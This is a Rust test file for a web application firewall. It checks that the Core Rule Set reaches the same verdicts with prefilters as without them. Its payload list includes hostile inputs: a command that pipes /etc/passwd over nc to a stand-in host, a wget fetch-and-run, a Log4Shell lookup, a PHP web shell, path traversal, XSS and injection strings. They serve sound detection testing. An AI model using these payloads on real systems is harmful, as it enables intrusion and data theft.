//! The Core Rule Set with prefilters and without: every exchange, benign or not, must end the same,
//! at the lowest and at the highest paranoia level.

use std::fs;
use std::net::Ipv4Addr;
use std::sync::Arc;

use portward::waf::input::{Body, ConnectionFacts, Extent, Field, RequestHead, ResponseHead};
use portward::waf::lang::seclang::Options;
use portward::waf::report::Report;
use portward::waf::{Engine, Mode, Settings};

use crate::{import, support};

/// Payloads are taken from a list so far apart that about so many remain.
const PER_LIST: usize = 30;

/// Payloads of many kinds, beside those of the lists; and what only looks like one.
const OWN: &[&str] = &[
    "the harbour opens at six; bring bread & letters",
    "O'Neill, Dún Laoghaire (flat 3)",
    "SELECT a seat from the list where it says 'window'",
    "1 < 2 && 3 > 2",
    "https://www.example.com/a?b=c#d",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fshadow\0.png",
    "; cat /etc/passwd | nc 192.0.2.1 80",
    "$(wget -qO- http://192.0.2.1/x)",
    "() { :;}; /bin/sh -c id",
    "${jndi:ldap://192.0.2.1/a}",
    "<?php system($_GET['c']); ?>",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "\r\nSet-Cookie: a=b",
    "<script>alert(document.cookie)</script>",
    "<svg/onload=alert&#40;1&#41;>",
    "javascript:alert(1)",
    "{{7*7}}<%= 7*7 %>",
    "%u003cscript%u003e",
    "\u{ff1c}script\u{ff1e}",
    "require('child_process').exec('id')",
    "java.lang.Runtime.getRuntime().exec",
    "phpinfo();",
    "gopher://127.0.0.1:6379/_INFO",
];

const PAGES: &[&str] = &[
    "<html><head><title>Harbour</title></head><body>Timetable</body></html>",
    "<b>Warning</b>: mysql_fetch_array() expects parameter 1 to be resource in <b>/var/www/a.php</b> on line <b>3</b>",
    "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version",
    "<title>Index of /backup</title><h1>Index of /backup</h1>",
    "Microsoft OLE DB Provider for ODBC Drivers error '80040e14'",
    "java.lang.NullPointerException at org.example.Main.main(Main.java:3)",
];

fn payloads() -> Vec<Vec<u8>> {
    let folder = support::data("modsecurity/others/libinjection/data");
    let mut all: Vec<Vec<u8>> = OWN.iter().map(|text| text.as_bytes().to_vec()).collect();
    let lists = support::files(&folder, "txt");
    assert!(lists.len() > 10, "{} lists", lists.len());
    for list in lists {
        let text = fs::read(&list).expect("a list of payloads");
        let lines: Vec<&[u8]> = text.split(|byte| *byte == b'\n').filter(|line| !line.is_empty()).collect();
        all.extend(lines.iter().step_by(lines.len().div_ceil(PER_LIST).max(1)).map(|line| line.to_vec()));
    }
    all
}

fn escaped(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("%{byte:02x}")).collect()
}

/// One exchange with the payload in a place that depends on the number.
fn run(engine: &Arc<Engine>, number: usize, payload: &[u8]) -> Report {
    let facts = ConnectionFacts {
        client_ip: Ipv4Addr::new(192, 0, 2, 7).into(),
        client_port: 4000,
        server_ip: None,
        server_port: 443,
        sni: None,
        identity: None,
        unix_ms: 1_760_000_000_000,
        unique_id: "ID",
    };
    let once = escaped(payload);
    let in_line: Vec<u8> =
        payload.iter().copied().filter(|byte| !matches!(byte, b'\r' | b'\n' | 0)).collect();
    let json = serde_json::json!({ "a": [1, { "b": String::from_utf8_lossy(payload) }] }).to_string();
    let (mut target, mut cookie, mut kind, mut body) =
        ("/shop/list?page=2&sort=up".to_owned(), b"theme=dark".to_vec(), "text/plain", Vec::new());
    match number % 6 {
        0 => target = format!("/shop/list?q={once}&page=2"),
        1 => target = format!("/shop/{once}"),
        2 => cookie = [b"theme=dark; id=", &in_line[..]].concat(),
        3 => {
            (kind, body) =
                ("application/x-www-form-urlencoded", format!("a=1&q={once}&{once}=2").into_bytes())
        }
        4 => (kind, body) = ("application/json", json.into_bytes()),
        _ => target = format!("/shop/list?{}=1", escaped(once.as_bytes())),
    }
    let length = body.len().to_string();
    let fields: Vec<Field> = [
        ("Host", &b"shop.example"[..]),
        ("User-Agent", if number % 7 == 3 { &in_line } else { b"Mozilla/5.0 (X11; Linux x86_64)" }),
        ("Accept", b"*/*"),
        ("Cookie", &cookie),
        ("Content-Type", kind.as_bytes()),
        ("Content-Length", length.as_bytes()),
    ]
    .map(|(name, value)| Field { name: name.as_bytes(), value })
    .to_vec();
    let whole = |bytes| Body { bytes, extent: Extent::Whole, coding_error: None };
    let mut transaction = engine.begin(&facts);
    transaction.request_headers(&RequestHead {
        method: if body.is_empty() { "GET" } else { "POST" },
        target: target.as_bytes(),
        protocol: "HTTP/1.1",
        scheme: "https",
        host: "shop.example",
        port: 443,
        fields: &fields,
    });
    transaction.request_body(&whole(&body));
    let html = [Field { name: b"Content-Type", value: b"text/html" }];
    let status = if number.is_multiple_of(5) { 500 } else { 200 };
    transaction.response_headers(&ResponseHead { status, protocol: "HTTP/1.1", fields: &html });
    transaction.response_body(&whole(PAGES[number % PAGES.len()].as_bytes()));
    transaction.finish()
}

#[test]
fn the_core_rule_set_gives_the_same_verdicts_with_prefilters_and_without() {
    let sources = import::core_rule_set(&Options { skip_unsupported: true }).sources;
    let payloads = payloads();
    assert!(payloads.len() > 100, "{} payloads", payloads.len());
    let mut rules = std::collections::BTreeSet::new();
    for level in [1, 4] {
        let settings =
            Settings { mode: Some(Mode::Detect), paranoia_level: Some(level), ..Settings::default() };
        let [fast, plain] = [Engine::compile, Engine::compile_plain].map(|compile| {
            Arc::new(compile(&sources, &settings).unwrap_or_else(|errors| panic!("{}", errors[0])))
        });
        for (number, payload) in payloads.iter().enumerate() {
            let expect = run(&plain, number, payload);
            rules.extend(expect.matches.iter().map(|found| found.rule));
            // The second time, clean values are remembered.
            for time in ["first", "second"] {
                let shown = payload.escape_ascii().to_string();
                assert_eq!(
                    run(&fast, number, payload),
                    expect,
                    "level {level}, {number}, {time} time: {shown}"
                );
            }
        }
    }
    // It must not hold for want of matches.
    assert!(rules.len() > 100, "only {} rules matched", rules.len());
}
